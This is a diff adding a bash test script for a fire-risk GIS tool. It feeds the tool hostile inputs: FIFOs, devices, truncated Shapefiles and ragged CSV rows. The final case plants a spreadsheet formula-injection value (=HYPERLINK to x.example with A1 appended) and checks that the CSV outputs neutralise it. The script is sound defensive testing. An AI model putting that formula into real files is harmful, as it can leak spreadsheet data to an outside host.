@@ -1,0 +1,101 @@
+#!/usr/bin/env bash
+# Bad-input catalogue, hostile inputs (issue 16): paths that are not files
+# (a FIFO must be refused, never block the run under its lock), Shapefiles
+# cut or corrupted by a failed copy (exit 2, as a cut .dbf), CSV rows with
+# more or fewer cells than the header (counted rejects ragged_row, never
+# used), and text that a spreadsheet would run as a formula (neutralised
+# in every CSV output, kept as read in the GIS outputs).
+source "$(dirname "$0")/../common.bash"
+source "$(dirname "$0")/lib_bad.bash"
+cd "$WORK"
+baseline
+
+shp_parcels
+
+# Every run here must end on its own: a hang (exit 124) fails the case
+# instead of blocking the suite.
+firerisk_run() { # CONFIG [extra args]
+  local cfg=$1; shift
+  set +e
+  timeout 60 "$FIRERISK" run --config "$cfg" --out "$OUT" "$@" 2>"$WORK/stderr" >"$WORK/stdout"
+  RC=$?
+  set -e
+  sanitizer_clean
+}
+
+case_name "the input is a FIFO: refused before opening, exit 2, lock released"
+mkfifo fifo.csv
+parcels_yaml fifo.csv > c.yaml
+set +e
+timeout 60 "$FIRERISK" run --config c.yaml --out "$OUT" 2>"$WORK/stderr" >/dev/null
+RC=$?
+set -e
+[ "$RC" = 2 ] || { cat "$WORK/stderr" >&2; fail "$CASE: exit $RC, expected 2 (124 = it blocked)"; }
+grep -qF "fifo.csv: is a FIFO (named pipe), not a regular file or directory" "$WORK/stderr" || fail "$CASE: message"
+[ "$(outputs_sha)" = "$BASE_SHA" ] || fail "$CASE: outputs changed"
+run_ok "$WORK/base.yaml" # the next night is not locked out
+
+case_name "a Shapefile's .dbf is a FIFO"
+copy_shp fifodbf
+rm fifodbf/parcels.dbf
+mkfifo fifodbf/parcels.dbf
+parcels_yaml fifodbf/parcels.shp "" > c.yaml
+run_fails 2 "fifodbf/parcels.dbf: is a FIFO (named pipe)" c.yaml
+
+case_name "the configuration is a FIFO"
+mkfifo fifo.yaml
+set +e
+timeout 60 "$FIRERISK" run --config fifo.yaml --out "$OUT" 2>"$WORK/stderr" >/dev/null
+RC=$?
+set -e
+[ "$RC" = 1 ] || fail "$CASE: exit $RC, expected 1"
+grep -qF "fifo.yaml: is not a regular file" "$WORK/stderr" || fail "$CASE: message"
+
+case_name "a character device as input"
+parcels_yaml /dev/zero > c.yaml
+run_fails 2 "/dev/zero: is a character device, not a regular file or directory" c.yaml
+
+case_name ".shx truncated"
+copy_shp cutshx
+truncate -s 140 cutshx/parcels.shx
+parcels_yaml cutshx/parcels.shp "" > c.yaml
+run_fails 2 "cutshx/parcels.shx: the Shapefile's index (.shx) file is truncated" c.yaml
+
+case_name ".shp cut at half, header rewritten to match (the .shx still says where records end)"
+copy_shp half
+size=$(stat -c %s half/parcels.shp)
+truncate -s $((size / 2)) half/parcels.shp
+python3 - half/parcels.shp <<'PY'
+import os, struct, sys
+p = sys.argv[1]
+with open(p, "r+b") as f:
+    f.seek(24); f.write(struct.pack(">i", os.path.getsize(p) // 2))
+PY
+parcels_yaml half/parcels.shp "" > c.yaml
+run_fails 2 "half/parcels.shp: the Shapefile's geometry (.shp) file is truncated or corrupt: record" c.yaml
+
+case_name "CSV row with one extra unquoted comma: rejected ragged_row, never used"
+{ head -1 parcels.csv; echo 'P99,1 ELM ST, smoke alarm missing,1950,"POLYGON((741000 3735200,741030 3735200,741030 3735230,741000 3735230,741000 3735200))"'; tail -n +2 parcels.csv; } > ragged.csv
+parcels_yaml ragged.csv > c.yaml
+run_ok c.yaml
+expect_reject parcels ragged_row "line 2 has 5 cells where the header has 4"
+accounting_balanced
+[ "$(summary_used parcels)" = 16 ] || fail "$CASE: the ragged row must not be used"
+! grep -q '^P99,' "$OUT/ranked_parcels.csv" 2>/dev/null || fail "$CASE: the ragged row was ranked"
+
+case_name "CSV row with a cell missing"
+{ head -1 parcels.csv; tail -n +2 parcels.csv; echo 'P98,1 ELM ST'; } > short.csv
+parcels_yaml short.csv > c.yaml
+run_ok c.yaml
+expect_reject parcels ragged_row "line 18 has 2 cells where the header has 4"
+accounting_balanced
+
+case_name "a formula in an address: neutralised in the CSVs, kept in the GeoJSON"
+{ head -1 parcels.csv; sed -n 2p parcels.csv | sed 's/^P1,[^,]*,/P1,"=HYPERLINK(""http:\/\/x.example\/?""\&A1,""click"")",/'; tail -n +3 parcels.csv; } > formula.csv
+parcels_yaml formula.csv > c.yaml
+run_ok c.yaml
+grep -qF "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" "$OUT/targets.csv" \
+  || { grep P1 "$OUT/targets.csv" >&2; fail "$CASE: targets.csv does not neutralise the formula"; }
+! grep -q '^[^"]*,=HYPERLINK\|,"=HYPERLINK' "$OUT"/*.csv || fail "$CASE: a CSV still starts a cell with ="
+grep -qF '"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"' "$OUT/ranked_parcels.geojson" \
+  || fail "$CASE: the GeoJSON must keep the text as read"
